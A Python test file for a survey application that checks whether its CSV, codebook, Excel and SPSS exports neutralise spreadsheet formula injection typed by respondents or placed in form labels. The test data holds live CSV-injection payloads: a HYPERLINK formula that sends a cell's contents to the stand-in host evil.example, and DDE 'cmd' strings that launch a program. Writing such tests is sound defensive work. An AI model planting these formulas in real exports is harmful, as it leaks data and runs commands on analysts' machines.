"""Issue 12, finding 4: a respondent's text answer, or a questionnaire's label, that a spreadsheet would run
as a formula reaches no CSV file as a formula.

The answers are typed into the respondent form, as an attacker among the respondents would; the files are
the console's downloads. OWASP's advice ("CSV Injection") is the expected form: a cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a ``'`` in front. Numbers stay numbers, and the
Excel and SPSS files keep every text exactly as typed, as text.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import asyncpg
import msgspec
import openpyxl
import pyreadstat
from litestar.testing import AsyncTestClient

from survey.app import create_app
from survey.exports.csv import neutralise
from survey.settings import Settings
from tests.helpers import open_wave, post_console_form, post_form, read_page, sign_in_as

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]
# A leading tab or carriage return never reaches the database through the form (answers are stripped),
# but the guard covers them too, for whatever text comes from elsewhere.
INVISIBLE = ["\t=1+1", "\r=1+1"]
LABEL = '=HYPERLINK("http://evil.example/","Read me")'

FORM = f"""
key: inject
languages: [en]
title: {{en: "Formula injection"}}
sections:
  - key: only
    items:
      - key: comment
        type: text
        text: {{en: '{LABEL.replace("'", "''")}'}}
      - key: change
        type: integer
        min: -100
        max: 100
        text: {{en: "How many more than last year?"}}
      - key: mood
        type: choice
        text: {{en: "Mood"}}
        choices:
          - {{value: ok, label: {{en: "@SUM(9)"}}}}
          - {{value: bad, label: {{en: "Bad"}}}}
"""


async def _answer(app, wave, comment: str, change: str) -> None:
    """One respondent: the first (and only) page, sent as a browser sends it."""
    async with AsyncTestClient(app) as client:
        page = await client.get(f"/r/{wave.token}?lang=en")
        response_id = read_page(page.text).hidden["_response_id"]
        sent = await post_form(
            client,
            f"/r/{wave.token}/p/1",
            [("_response_id", response_id), ("comment", comment), ("change", change),
             ("mood", "ok")],
        )  # fmt: skip
        assert sent.status_code == 303, sent.text


async def test_formulas_typed_by_respondents_or_in_labels_are_text_in_every_csv(
    settings: Settings, db: asyncpg.Connection, tmp_path: Path
) -> None:
    definition = tmp_path / "inject.yaml"
    definition.write_text(FORM, encoding="utf-8")
    wave = await open_wave(db, definition, campaign="inject")
    app = create_app(settings, database_url=settings.database_url)
    for n, comment in enumerate(HOSTILE):
        await _answer(app, wave, comment, str(-5 - n))
    await _answer(app, wave, "fine, thanks", "7")

    async with AsyncTestClient(app) as client:
        client.follow_redirects = False
        await sign_in_as(client, db, "analyst")

        async def download(fmt: str) -> bytes:
            got = await post_console_form(
                client, "/console/campaigns/inject/export", {"format": fmt}
            )
            assert got.status_code == 200, got.text
            return got.content

        rows = list(csv.DictReader(io.StringIO((await download("csv")).decode())))
        codebook_rows = list(csv.reader(io.StringIO((await download("codebook-csv")).decode())))
        book = msgspec.json.decode(await download("codebook-json"))
        (tmp_path / "inject.xlsx").write_bytes(await download("xlsx"))
        (tmp_path / "inject.sav").write_bytes(await download("sav"))

    # CSV: every hostile answer comes with a ' in front; a harmless one and the numbers are untouched.
    comments = sorted(r["comment"] for r in rows)
    assert comments == sorted(["'" + h for h in HOSTILE] + ["fine, thanks"])
    assert sorted(int(r["change"]) for r in rows) == [-8, -7, -6, -5, 7]
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            assert not cell.startswith("-") or re.fullmatch(r"-\d+", cell), (name, cell)

    # The codebook CSV: the labels are guarded too, and the codebook says what was done.
    cells = [cell for row in codebook_rows for cell in row]
    assert "'" + LABEL in cells and "'@SUM(9)|Bad" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    comment_entry = next(e for e in book["entries"] if e["item"] == "comment")
    assert "' put in front" in comment_entry["notes"]
    assert any("CSV injection" in note for note in book["notes"])
    assert book["entries"][0]["text"]["en"] == LABEL  # JSON is not a spreadsheet: kept as written

    # Excel and SPSS store text as text: exactly as typed, never a formula.
    sheet = openpyxl.load_workbook(tmp_path / "inject.xlsx")["responses"]
    header = [c.value for c in sheet[1]]
    typed = [row[header.index("comment")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in typed) == sorted([*HOSTILE, "fine, thanks"])
    assert {c.data_type for c in typed} == {"s"}
    frame, _ = pyreadstat.read_sav(str(tmp_path / "inject.sav"))
    assert sorted(frame["comment"]) == sorted([*HOSTILE, "fine, thanks"])
    assert sorted(frame["change"]) == [-8, -7, -6, -5, 7]


def test_a_leading_tab_or_carriage_return_is_guarded_as_well() -> None:
    assert [neutralise(text) for text in INVISIBLE] == ["'" + text for text in INVISIBLE]
    assert [neutralise(text) for text in ("12", "a-b", "", "'=x")] == ["12", "a-b", "", "'=x"]
